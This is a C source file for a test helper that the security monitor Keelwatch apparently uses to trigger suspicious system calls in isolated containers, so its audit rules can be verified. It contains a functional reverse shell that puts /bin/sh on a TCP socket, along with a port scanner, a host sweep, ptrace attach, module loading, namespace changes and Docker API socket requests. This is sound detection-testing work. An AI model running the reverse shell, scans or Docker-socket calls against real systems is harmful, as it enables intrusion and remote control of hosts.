/*
 * kwhelper: a tiny static binary that makes the system calls busybox cannot, for Keelwatch's end-to-end attack
 * scenarios. Each subcommand performs one attempt and reports its outcome on stdout as "kwhelper: <what>: ok" or
 * "kwhelper: <what>: <errno name>". Attempts that fail are still attempts: the audit trail is what is tested, so
 * a failing syscall exits 0 unless the subcommand needs the result (exit 2 on usage errors).
 *
 * Network subcommands take any target: the suite runs them in containers with --network none (only loopback,
 * anything else fails with ENETUNREACH before a packet exists) or on an --internal bridge, so none leaves the host.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int report(const char *what, int rc) {
    if (rc < 0) printf("kwhelper: %s: %s\n", what, strerrorname_np(errno) ? strerrorname_np(errno) : "error");
    else printf("kwhelper: %s: ok\n", what);
    fflush(stdout);
    return 0;
}

static int usage(void) {
    fputs("usage: kwhelper noop [ARGS...] | mount SRC DST FSTYPE [DATA] | unshare user|mount|net|cgroup\n"
          "       | setns NSPATH | ptrace | modload | write PATH TEXT | openw PATH | read PATH | memfd NAME\n"
          "       | connect IP PORT | scan IP FIRST LAST | sweep A.B.C. FIRST LAST PORT | unix PATH\n"
          "       | revshell IP PORT | sleep SECONDS | execrate PER_SECOND SECONDS PROGRAM\n"
          "       | mixrate PER_SECOND SECONDS PROGRAM DIR | sleepers COUNT PER_SECOND SECONDS\n", stderr);
    return 2;
}

/* One TCP connect attempt with a short timeout; the outcome (refused, unreachable, in progress) does not matter. */
static int tcp_attempt(const char *ip, int port, int quiet) {
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
    if (inet_pton(AF_INET, ip, &sa.sin_addr) != 1) { fprintf(stderr, "bad ip %s\n", ip); return -2; }
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (fd < 0) return -1;
    int rc = connect(fd, (struct sockaddr *)&sa, sizeof sa);
    if (rc < 0 && errno == EINPROGRESS) {
        struct pollfd p = {.fd = fd, .events = POLLOUT};
        if (poll(&p, 1, 200) == 1) {
            int err = 0; socklen_t len = sizeof err;
            getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &len);
            errno = err; rc = err ? -1 : 0;
        } else { errno = ETIMEDOUT; rc = -1; }
    }
    int saved = errno;
    close(fd);
    errno = saved;
    if (!quiet) {
        char what[96];
        snprintf(what, sizeof what, "connect %s:%d", ip, port);
        report(what, rc);
    }
    return rc;
}

static int cmd_ptrace(void) {
    pid_t child = fork();
    if (child == 0) { pause(); _exit(0); }
    usleep(50000);
    int rc = (int)ptrace(PTRACE_ATTACH, child, 0, 0);
    report("ptrace attach", rc);
    if (rc == 0) { waitpid(child, NULL, 0); ptrace(PTRACE_DETACH, child, 0, 0); }
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    return 0;
}

static int cmd_memfd(const char *name) {
    int fd = (int)syscall(SYS_memfd_create, name, 0);
    report("memfd_create", fd);
    if (fd >= 0) close(fd);
    return 0;
}

static int cmd_unix(const char *path) {
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    snprintf(sa.sun_path, sizeof sa.sun_path, "%s", path);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    int rc = connect(fd, (struct sockaddr *)&sa, sizeof sa);
    report("connect unix", rc);
    if (rc == 0) {
        /* A read-only API call, as an attacker's first step would be. */
        const char *req = "GET /version HTTP/1.0\r\nHost: docker\r\n\r\n";
        if (write(fd, req, strlen(req)) > 0) {
            char buf[256];
            ssize_t n = read(fd, buf, sizeof buf - 1);
            if (n > 0) { buf[n] = 0; printf("kwhelper: docker answered %.12s\n", buf); }
        }
    }
    close(fd);
    return 0;
}

/* Connects to IP:PORT and runs /bin/sh with stdio on the socket: the reverse shell shape. */
static int cmd_revshell(const char *ip, int port) {
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
    if (inet_pton(AF_INET, ip, &sa.sin_addr) != 1) return usage();
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(fd, (struct sockaddr *)&sa, sizeof sa) < 0) return report("revshell connect", -1);
    dup2(fd, 0); dup2(fd, 1); dup2(fd, 2);
    execl("/bin/sh", "sh", "-i", (char *)NULL);
    return report("revshell exec", -1);
}

static int cmd_unshare(const char *what) {
    int flags = !strcmp(what, "user") ? CLONE_NEWUSER : !strcmp(what, "mount") ? CLONE_NEWNS
              : !strcmp(what, "net") ? CLONE_NEWNET : !strcmp(what, "cgroup") ? CLONE_NEWCGROUP : -1;
    if (flags < 0) return usage();
    return report("unshare", unshare(flags));
}

/* Execs PROGRAM at RATE per second for SECONDS, paced against the clock (a late exec is not made up by a burst
 * beyond one tick); prints how many ran. The overhead benchmark's load. */
static int cmd_execrate(int rate, int seconds, char *program) {
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    long done = 0, total = (long)rate * seconds;
    int inflight = 0;  /* children not yet reaped: execs overlap, so the rate does not depend on exec latency */
    while (done < total) {
        clock_gettime(CLOCK_MONOTONIC, &now);
        double elapsed = (now.tv_sec - start.tv_sec) + (now.tv_nsec - start.tv_nsec) / 1e9;
        if (elapsed >= seconds) break;
        long due = (long)(elapsed * rate) + 1;
        while (inflight > 0 && waitpid(-1, NULL, WNOHANG) > 0) inflight--;
        if (done >= due || inflight >= 64) { usleep(100); continue; }
        pid_t p = fork();
        if (p == 0) { execl(program, program, (char *)NULL); _exit(127); }
        if (p > 0) inflight++;
        done++;
    }
    while (inflight > 0 && waitpid(-1, NULL, 0) > 0) inflight--;
    clock_gettime(CLOCK_MONOTONIC, &now);
    double elapsed = (now.tv_sec - start.tv_sec) + (now.tv_nsec - start.tv_nsec) / 1e9;
    printf("kwhelper: execrate %ld execs in %.1f s = %.0f/s\n", done, elapsed, done / elapsed);
    return 0;
}

/* Clock pacing shared by the rate loads: seconds since START. */
static double since(const struct timespec *start) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (now.tv_sec - start->tv_sec) + (now.tv_nsec - start->tv_nsec) / 1e9;
}

/* The overhead benchmark's mixed load: RATE audited system calls per second for SECONDS, paced as execrate is.
 * Out of every 10 slots: 4 execs of PROGRAM (forked, overlapping), 3 inet connects to 127.0.0.1:9 (refused at
 * once: the outcome does not matter to the audit rule), 2 creating opens + a write of a file below DIR (a
 * bind mount of a watched host directory), 1 mount attempt of a tmpfs (refused without CAP_SYS_ADMIN: the
 * attempt is what a mount rule sees, and a container without capabilities keeps tier 2 out of the figures). */
static int cmd_mixrate(int rate, int seconds, char *program, const char *dir) {
    struct timespec start;
    clock_gettime(CLOCK_MONOTONIC, &start);
    long done = 0, total = (long)rate * seconds, kinds[4] = {0};
    int inflight = 0;
    char path[512];
    while (done < total) {
        double elapsed = since(&start);
        if (elapsed >= seconds) break;
        long due = (long)(elapsed * rate) + 1;
        while (inflight > 0 && waitpid(-1, NULL, WNOHANG) > 0) inflight--;
        if (done >= due || inflight >= 64) { usleep(100); continue; }
        int slot = (int)(done % 10);
        if (slot < 4) {
            pid_t p = fork();
            if (p == 0) { execl(program, program, (char *)NULL); _exit(127); }
            if (p > 0) inflight++;
            kinds[0]++;
        } else if (slot < 7) {
            tcp_attempt("127.0.0.1", 9, 1);
            kinds[1]++;
        } else if (slot < 9) {
            snprintf(path, sizeof path, "%s/f%ld", dir, done % 64);
            int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
            if (fd >= 0) { if (write(fd, "x\n", 2) < 0) perror("write"); close(fd); }
            kinds[2]++;
        } else {
            mount("none", "/mnt/cg", "tmpfs", 0, NULL);
            kinds[3]++;
        }
        done++;
    }
    while (inflight > 0 && waitpid(-1, NULL, 0) > 0) inflight--;
    double elapsed = since(&start);
    printf("kwhelper: mixrate %ld events (%ld execs, %ld connects, %ld writes, %ld mounts) in %.1f s = %.0f/s\n",
           done, kinds[0], kinds[1], kinds[2], kinds[3], elapsed, done / elapsed);
    return 0;
}

/* COUNT live processes at once: forks and execs `kwhelper sleep SECONDS` COUNT times at PER_SECOND (paced so that
 * the audit backlog keeps up), then waits for them. The process-table footprint check's load. */
static int cmd_sleepers(int count, int rate, int seconds) {
    struct timespec start;
    clock_gettime(CLOCK_MONOTONIC, &start);
    char secs[16];
    snprintf(secs, sizeof secs, "%d", seconds);
    int started = 0;
    while (started < count) {
        if (started >= (long)(since(&start) * rate) + 1) { usleep(200); continue; }
        pid_t p = fork();
        if (p == 0) { execl("/proc/self/exe", "kwhelper", "sleep", secs, (char *)NULL); _exit(127); }
        if (p < 0) { perror("fork"); break; }
        started++;
    }
    printf("kwhelper: sleepers %d started in %.1f s\n", started, since(&start));
    fflush(stdout);
    while (waitpid(-1, NULL, 0) > 0) {}
    return 0;
}

/* Runtime threats (persistence, credentials, evasion): one HTTP request on a runtime API socket, as curl --unix-socket would send it. A create names an image that does
 * not exist, so the daemon answers 404 and no container is made. */
static int cmd_dockerapi(const char *path, const char *method, const char *target) {
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    snprintf(sa.sun_path, sizeof sa.sun_path, "%s", path);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    int rc = connect(fd, (struct sockaddr *)&sa, sizeof sa);
    report("connect unix", rc);
    if (rc == 0) {
        const char *body = !strcmp(method, "POST") ? "{\"Image\":\"keelwatch-e2e-no-such-image:none\"}" : "";
        char req[512];
        int n = snprintf(req, sizeof req, "%s %s HTTP/1.0\r\nHost: docker\r\nContent-Type: application/json\r\n"
                         "Content-Length: %zu\r\n\r\n%s", method, target, strlen(body), body);
        if (n > 0 && write(fd, req, (size_t)n) > 0) {
            char buf[256];
            ssize_t got = read(fd, buf, sizeof buf - 1);
            if (got > 0) { buf[got] = 0; printf("kwhelper: docker answered %.12s\n", buf); }
        }
    }
    close(fd);
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 2) return usage();
    const char *c = argv[1];
    if (!strcmp(c, "noop")) return report("noop", 0);
    if (!strcmp(c, "execrate") && argc == 5) return cmd_execrate(atoi(argv[2]), atoi(argv[3]), argv[4]);
    if (!strcmp(c, "mixrate") && argc == 6) return cmd_mixrate(atoi(argv[2]), atoi(argv[3]), argv[4], argv[5]);
    if (!strcmp(c, "sleepers") && argc == 5) return cmd_sleepers(atoi(argv[2]), atoi(argv[3]), atoi(argv[4]));
    if (!strcmp(c, "sleep") && argc == 3) { sleep((unsigned)atoi(argv[2])); return 0; }
    if (!strcmp(c, "mount") && argc >= 5)
        return report("mount", argc > 5 && !strcmp(argv[5], "ro")
                ? mount(argv[2], argv[3], argv[4], MS_RDONLY, NULL)
                : mount(argv[2], argv[3], argv[4], 0, argc > 5 ? argv[5] : NULL));
    if (!strcmp(c, "unshare") && argc == 3) return cmd_unshare(argv[2]);
    if (!strcmp(c, "setns") && argc == 3) {
        int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
        if (fd < 0) return report("open ns", -1);
        return report("setns", setns(fd, 0));
    }
    if (!strcmp(c, "ptrace")) return cmd_ptrace();
    if (!strcmp(c, "modload")) {
        report("init_module", (int)syscall(SYS_init_module, NULL, 0, ""));
        int fd = open("/bin/busybox", O_RDONLY | O_CLOEXEC);
        report("finit_module", (int)syscall(SYS_finit_module, fd, "", 0));
        return 0;
    }
    if (!strcmp(c, "write") && argc == 4) {
        int fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (fd < 0) return report("open for write", -1);
        ssize_t n = write(fd, argv[3], strlen(argv[3]));
        close(fd);
        return report("write", n < 0 ? -1 : 0);
    }
    if (!strcmp(c, "openw") && argc == 3) {
        /* Write intent only: open for write and close without writing a byte. */
        int fd = open(argv[2], O_WRONLY | O_CLOEXEC);
        report("open for write", fd);
        if (fd >= 0) close(fd);
        return 0;
    }
    if (!strcmp(c, "read") && argc == 3) {
        int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
        if (fd < 0) return report("open for read", -1);
        char buf[512];
        ssize_t n = read(fd, buf, sizeof buf);
        close(fd);
        return report("read", n < 0 ? -1 : 0);
    }
    if (!strcmp(c, "memfd") && argc == 3) return cmd_memfd(argv[2]);
    if (!strcmp(c, "connect") && argc == 4) { tcp_attempt(argv[2], atoi(argv[3]), 0); return 0; }
    if (!strcmp(c, "scan") && argc == 5) {
        int open_ports = 0;
        for (int p = atoi(argv[3]); p <= atoi(argv[4]); p++) if (tcp_attempt(argv[2], p, 1) == 0) open_ports++;
        printf("kwhelper: scan %s done, %d open\n", argv[2], open_ports);
        return 0;
    }
    if (!strcmp(c, "sweep") && argc == 6) {
        for (int h = atoi(argv[3]); h <= atoi(argv[4]); h++) {
            char ip[32];
            snprintf(ip, sizeof ip, "%s%d", argv[2], h);
            tcp_attempt(ip, atoi(argv[5]), 1);
        }
        printf("kwhelper: sweep %s done\n", argv[2]);
        return 0;
    }
    if (!strcmp(c, "unix") && argc == 3) return cmd_unix(argv[2]);
    /* runtime threats: drift and the interactive baseline */
    /* runtime threats: persistence, credentials, evasion */
    if (!strcmp(c, "dockerapi") && argc == 5) return cmd_dockerapi(argv[2], argv[3], argv[4]);
    if (!strcmp(c, "truncate") && argc == 3) return report("truncate", truncate(argv[2], 0));
    if (!strcmp(c, "revshell") && argc == 4) return cmd_revshell(argv[2], atoi(argv[3]));
    return usage();
}
